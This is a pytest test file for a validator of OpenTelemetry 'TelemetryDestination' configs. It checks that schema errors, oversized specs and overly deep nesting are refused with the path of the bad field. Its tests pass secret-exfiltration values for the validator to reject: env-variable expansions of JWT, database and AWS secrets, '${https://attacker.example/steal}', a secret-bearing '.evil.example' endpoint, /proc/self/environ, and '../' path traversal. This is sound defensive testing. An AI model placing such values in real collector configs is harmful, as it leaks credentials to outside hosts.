"""TelemetryDestination validation: every error names the path of the bad field."""

from __future__ import annotations

import copy
from typing import Any

import pytest

from tuneplane.destinations.resource import DestinationError, parse

VALID: dict[str, Any] = {
    "apiVersion": "tuneplane.dev/v1", "kind": "TelemetryDestination",
    "metadata": {"name": "prod"},
    "spec": {"sinks": [{"name": "gw", "exporter": "otlphttp",
                        "endpoint": "https://otel.example:4318",
                        "secretRef": {"name": "gw-token"},
                        "auth": {"bearerToken": {"key": "token"}},
                        "config": {"compression": "gzip"}}]}}


def changed(path: list[str | int], value: Any, base: dict[str, Any] = VALID) -> dict[str, Any]:
    document = copy.deepcopy(base)
    node: Any = document
    for key in path[:-1]:
        node = node[key]
    if value is KeyError:
        del node[path[-1]]
    else:
        node[path[-1]] = value
    return document


def test_a_valid_destination_parses() -> None:
    destination = parse(VALID)
    (sink,) = destination.sinks
    assert (sink.exporter_id, sink.authenticator_id, sink.secret_dir()) == (
        "otlphttp/gw", "bearertokenauth/gw", "/etc/tuneplane/telemetry/gw")
    assert sink.config == {"compression": "gzip"}


@pytest.mark.parametrize(("path", "value", "words"), [
    (["apiVersion"], "v1", "apiVersion: must be same as const definition"),
    (["kind"], "Destination", "kind: must be same as const definition"),
    (["metadata", "name"], "Prod_1", "metadata.name: must match pattern"),
    (["metadata"], KeyError, "(document): must contain ['metadata'] properties"),
    (["spec", "sinks"], [], "spec.sinks: must contain at least 1 items"),
    (["spec", "sinks", 0, "name"], "GW", "spec.sinks[0].name: must match pattern"),
    (["spec", "sinks", 0, "exporter"], "OTLP http", "spec.sinks[0].exporter: must match"),
    (["spec", "sinks", 0, "endpoint"], "ftp://x:1", "spec.sinks[0].endpoint: 'ftp://x:1' is "
                                                    "not an http(s) URL"),
    (["spec", "sinks", 0, "endpoint"], "otel.example", "spec.sinks[0].endpoint: "
                                                       "'otel.example' is neither"),
    (["spec", "sinks", 0, "endpoint"], "https://otel:99999", "spec.sinks[0].endpoint:"),
    (["spec", "sinks", 0, "endpoint"], "ftp://user:pw@otel:1", "spec.sinks[0].endpoint: "
                                                               "'ftp://<redacted>@otel:1' is not"),
    (["spec", "sinks", 0, "secretRef"], KeyError, "spec.sinks[0].auth.bearerToken: needs "
                                                  "spec.sinks[0].secretRef"),
    (["spec", "sinks", 0, "auth", "bearerToken", "key"], "a b",
     "spec.sinks[0].auth.bearerToken.key: must match pattern"),
    (["spec", "sinks", 0, "auth", "basic"], {}, "spec.sinks[0].auth: must not contain"),
    (["spec", "sinks", 0, "config", "endpoint"], "x", "spec.sinks[0].config.endpoint: set by "
                                                      "spec.sinks[0].endpoint"),
    (["spec", "sinks", 0, "config", "auth"], {}, "spec.sinks[0].config.auth: set by"),
    (["spec", "sinks", 0, "config"], "gzip", "spec.sinks[0].config: must be object"),
    (["spec", "extensions"], {"Bad Id": {}}, "spec.extensions.Bad Id: not an OpenTelemetry"),
    (["spec", "extensions"], {"bearertokenauth/gw": {}}, "spec.extensions.bearertokenauth/gw: "
                                                         "composed for sink 'gw'"),
    (["spec", "surprise"], 1, "spec: must not contain {'surprise'}"),
])
def test_each_mistake_names_its_path(path: list[str | int], value: Any, words: str) -> None:
    with pytest.raises(DestinationError) as caught:
        parse(changed(path, value), "prod.yaml")
    assert str(caught.value).startswith("prod.yaml: ")
    assert words in str(caught.value), str(caught.value)


def test_sink_names_are_unique_within_a_destination() -> None:
    document = copy.deepcopy(VALID)
    document["spec"]["sinks"].append({"name": "gw", "exporter": "debug"})
    with pytest.raises(DestinationError, match=r"spec.sinks\[1\].name: 'gw' is already the "
                                               r"name of spec.sinks\[0\]"):
        parse(document)


@pytest.mark.parametrize("endpoint", ["https://otel.example", "http://10.0.0.1:4318/v1",
                                      "otel-gateway:4317", "[::1]:4317"])
def test_endpoints_that_parse_are_accepted(endpoint: str) -> None:
    assert parse(changed(["spec", "sinks", 0, "endpoint"], endpoint)).sinks[0].endpoint == \
        endpoint


TWO_SINKS: dict[str, Any] = {**VALID, "spec": {
    "sinks": [{**VALID["spec"]["sinks"][0], "config": {"tls": {"ca_file": "ca.pem"}}},
              {"name": "lake", "exporter": "file",
               "config": {"path": "metrics.jsonl", "headers": {"authorization": "pa$$word"}}}],
    "extensions": {"oauth2client/gw": {"client_secret_file": "client-secret"},
                   "oauth2client/corp": {"client_id": "tuneplane"}}}}


SINK1 = ["spec", "sinks", 1, "config"]
EXT = ["spec", "extensions"]
EXPANDED = "would be expanded by the collector"


@pytest.mark.parametrize(("path", "value", "words"), [
    # The collector's confmap expansions, wherever they are.
    ([*SINK1, "headers", "authorization"], "Bearer ${env:TUNEPLANE_WEB_JWT_SECRET}",
     f"spec.sinks[1].config.headers.authorization: '${{env:TUNEPLANE_WEB_JWT_SECRET}}' "
     f"{EXPANDED}"),
    ([*SINK1, "headers", "authorization"], "${TUNEPLANE_DATABASE_URL}",
     f"spec.sinks[1].config.headers.authorization: '${{TUNEPLANE_DATABASE_URL}}' {EXPANDED}"),
    ([*SINK1, "headers", "x"], "${env:AWS_SECRET_ACCESS_KEY:-none}",
     f"spec.sinks[1].config.headers.x: '${{env:AWS_SECRET_ACCESS_KEY:-...}}' {EXPANDED}"),
    ([*SINK1, "headers", "x"], "${file:/etc/tuneplane/telemetry/gw/token}",
     f"spec.sinks[1].config.headers.x: '${{file:/etc/tuneplane/telemetry/gw/token}}' "
     f"{EXPANDED}"),
    ([*SINK1, "headers", "x"], "${https://attacker.example/steal}",
     f"spec.sinks[1].config.headers.x: '${{https://attacker.example/steal}}' {EXPANDED}"),
    ([*SINK1, "headers", "x"], "$$${env:HOME}",  # an odd run of $: the last one expands
     f"spec.sinks[1].config.headers.x: '${{env:HOME}}' {EXPANDED}"),
    ([*SINK1, "headers", "x"], "$TUNEPLANE_WEB_JWT_SECRET",
     "spec.sinks[1].config.headers.x: a single '$' is refused"),
    ([*SINK1, "rotation"], [1, {"a": ["${env:X}"]}],
     f"spec.sinks[1].config.rotation[1].a[0]: '${{env:X}}' {EXPANDED}"),
    ([*SINK1, "headers"], {"${env:X}": "v"},
     f"spec.sinks[1].config.headers.${{env:X}}: '${{env:X}}' {EXPANDED}"),
    (["spec", "sinks", 0, "endpoint"], "https://${env:TUNEPLANE_WEB_JWT_SECRET}.evil.example",
     f"spec.sinks[0].endpoint: '${{env:TUNEPLANE_WEB_JWT_SECRET}}' {EXPANDED}"),
    ([*EXT, "oauth2client/corp"], {"client_secret": "${env:TUNEPLANE_SECRET_ENC_KEY}"},
     f"spec.extensions.oauth2client/corp.client_secret: '${{env:TUNEPLANE_SECRET_ENC_KEY}}' "
     f"{EXPANDED}"),
    ([*EXT, "health_check/${env:X}"], {},
     f"spec.extensions.health_check/${{env:X}}: '${{env:X}}' {EXPANDED}"),
    # Files: only in the sink's own directory, given relative to it.
    ([*EXT, "bearertokenauth/corp"], {"filename": "/proc/self/environ"},
     "spec.extensions.bearertokenauth/corp.filename: an extension the sinks share reads no "
     "file"),
    ([*EXT, "oauth2client/gw"], {"client_secret_file": "/etc/tuneplane/web/jwt"},
     "spec.extensions.oauth2client/gw.client_secret_file: '/etc/tuneplane/web/jwt' is not a "
     "path relative to the sink's directory"),
    ([*EXT, "oauth2client/gw"], {"client_secret_file": "../lake/secret"},
     "spec.extensions.oauth2client/gw.client_secret_file: '../lake/secret' leaves the sink's "
     "directory"),
    (["spec", "sinks", 0, "config", "tls"], {"ca_file": "/etc/ssl/ca.pem"},
     "spec.sinks[0].config.tls.ca_file: '/etc/ssl/ca.pem' is not a path relative"),
    (["spec", "sinks", 0, "config", "tls"], {"key_file": "keys/../../lake/key.pem"},
     "spec.sinks[0].config.tls.key_file: 'keys/../../lake/key.pem' leaves the sink's"),
    (["spec", "sinks", 0, "config", "tls"], {"cert_file": "~/cert.pem"},
     "spec.sinks[0].config.tls.cert_file: '~/cert.pem' is not a path relative"),
    ([*SINK1, "path"], "/var/lib/tuneplane/otelcol.json",
     "spec.sinks[1].config.path: '/var/lib/tuneplane/otelcol.json' is not a path relative"),
    ([*SINK1, "path"], "..", "spec.sinks[1].config.path: '..' leaves the sink's directory"),
    ([*SINK1, "token_source"], "/etc/tuneplane/telemetry/gw/token",
     "spec.sinks[1].config.token_source: names the secrets root (/etc/tuneplane/telemetry)"),
    (["spec", "sinks", 0, "auth", "bearerToken", "key"], "..",
     "spec.sinks[0].auth.bearerToken.key: '..' is not a file in the sink's directory"),
    # Another sink's authenticator or extension.
    ([*SINK1, "auth"], {"authenticator": "bearertokenauth/gw"},
     "spec.sinks[1].config.auth.authenticator: 'bearertokenauth/gw' belongs to sink 'gw'; "
     "sink 'lake' names only its own extensions and those the destination's sinks share"),
    ([*SINK1, "sending_queue"], {"storage": "oauth2client/gw"},
     "spec.sinks[1].config.sending_queue.storage: 'oauth2client/gw' belongs to sink 'gw'"),
    ([*EXT, "oauth2client/corp"], {"auth": {"authenticator": "bearertokenauth/gw"}},
     "spec.extensions.oauth2client/corp.auth.authenticator: 'bearertokenauth/gw' belongs to "
     "sink 'gw'; an extension the sinks share names only"),
    # ... also with the spaces the collector trims around a component id's type and name.
    ([*SINK1, "auth"], {"authenticator": "bearertokenauth/gw "},
     "spec.sinks[1].config.auth.authenticator: 'bearertokenauth/gw ' belongs to sink 'gw'"),
    ([*SINK1, "auth"], {"authenticator": " bearertokenauth / gw"},
     "spec.sinks[1].config.auth.authenticator: ' bearertokenauth / gw' belongs to sink 'gw'"),
    ([*SINK1, "sending_queue"], {"storage": "oauth2client/\tgw\n"},
     "spec.sinks[1].config.sending_queue.storage: 'oauth2client/\\tgw\\n' belongs to sink"),
    # The stand-in answers show for a secret, applied back.
    ([*SINK1, "headers", "authorization"], "<redacted>",
     "spec.sinks[1].config.headers.authorization: '<redacted>' stands for a secret in "
     "answers"),
])
def test_what_would_reach_past_its_sink_is_refused_by_path(
        path: list[str | int], value: Any, words: str) -> None:
    with pytest.raises(DestinationError) as caught:
        parse(changed(path, value, TWO_SINKS), "prod.yaml")
    assert str(caught.value).startswith("prod.yaml: ")
    assert words in str(caught.value), str(caught.value)


@pytest.mark.parametrize(("path", "value"), [
    ([*SINK1, "headers", "authorization"], "pa$$word $${env:X} 5$$"),  # $$: a literal $
    ([*SINK1, "path"], "./out/../metrics.jsonl"),
    ([*SINK1, "auth"], {"authenticator": "oauth2client/corp"}),  # shared by the sinks
    (["spec", "sinks", 0, "config", "sending_queue"], {"storage": "oauth2client/gw"}),  # own
    ([*EXT, "file_storage/lake"], {"directory": "."}),
    ([*EXT, "health_check"], {"path": "/healthz"}),  # an HTTP path: not a file field
])
def test_what_stays_within_its_sink_is_accepted(path: list[str | int], value: Any) -> None:
    parse(changed(path, value, TWO_SINKS))


@pytest.mark.parametrize("name", ["tuneplane-secrets", "tuneplane-database", "gw-token",
                                  "tuneplane-sink"])
def test_a_secret_not_named_for_sinks_is_refused_where_the_backend_asks(name: str) -> None:
    document = changed(["spec", "sinks", 0, "secretRef", "name"], name)
    with pytest.raises(DestinationError) as caught:
        parse(document, "prod", secret_prefix="tuneplane-sink-")
    assert str(caught.value).startswith(
        f"prod: spec.sinks[0].secretRef.name: {name!r} does not start with "
        "'tuneplane-sink-'"), str(caught.value)
    assert parse(document).sinks[0].secret == name  # PostgreSQL: secretRef is not mounted


def test_a_secret_named_for_sinks_is_accepted() -> None:
    document = changed(["spec", "sinks", 0, "secretRef", "name"], "tuneplane-sink-gw")
    assert parse(document, secret_prefix="tuneplane-sink-").sinks[0].secret == \
        "tuneplane-sink-gw"


def nested(levels: int) -> dict[str, Any]:
    """A config holding ``levels`` objects, one in the other."""
    node: dict[str, Any] = {}
    for _ in range(levels - 1):
        node = {"a": node}
    return node


def test_nesting_deeper_than_32_levels_is_refused_with_its_path() -> None:
    # The document is level 1, spec 2, sinks 3, the sink 4, its config 5.
    parse(changed(["spec", "sinks", 0, "config"], nested(28)))
    with pytest.raises(DestinationError) as caught:
        parse(changed(["spec", "sinks", 0, "config"], nested(29)), "prod")
    assert str(caught.value) == (
        "prod: spec.sinks[0].config" + ".a" * 28 + ": nested deeper than 32 levels (counted "
        "from the document); a TelemetryDestination nests at most 32")


def test_a_config_nested_600_levels_is_refused_not_recursed_into() -> None:
    deep = changed(["spec", "extensions"], {"health_check": {"x": [nested(600)]}})
    with pytest.raises(DestinationError, match=r"^prod: spec.extensions.health_check.x\[0\]"
                                               r"(\.a)+: nested deeper than 32 levels"):
        parse(deep, "prod")


def test_a_spec_over_64_kib_is_refused() -> None:
    big = changed(["spec", "sinks", 0, "config", "headers"], {"x-pad": "p" * 70_000})
    with pytest.raises(DestinationError, match=r"^prod: spec: 70\d{3} bytes as JSON; a "
                                               r"TelemetryDestination's spec is at most "
                                               r"65536 bytes \(64 KiB\)$"):
        parse(big, "prod")
    parse(changed(["spec", "sinks", 0, "config", "headers"], {"x-pad": "p" * 60_000}))


@pytest.mark.parametrize("verbosity", ["detailed", "Detailed", "normal", "NORMAL", 2, None])
def test_a_debug_sink_printing_points_is_refused(verbosity: Any) -> None:
    document = changed(["spec", "sinks"], [{"name": "console", "exporter": "debug",
                                            "config": {"verbosity": verbosity}}])
    with pytest.raises(DestinationError) as caught:
        parse(document, "prod")
    assert str(caught.value).startswith(
        f"prod: spec.sinks[0].config.verbosity: {verbosity!r} is refused; a debug sink "
        "takes verbosity 'basic' only"), str(caught.value)


@pytest.mark.parametrize("config", [{}, {"verbosity": "basic"}, {"verbosity": "Basic"},
                                    {"sampling_initial": 5}])
def test_a_debug_sink_printing_no_point_is_accepted(config: dict[str, Any]) -> None:
    parse(changed(["spec", "sinks"], [{"name": "console", "exporter": "debug",
                                       "config": config}]))
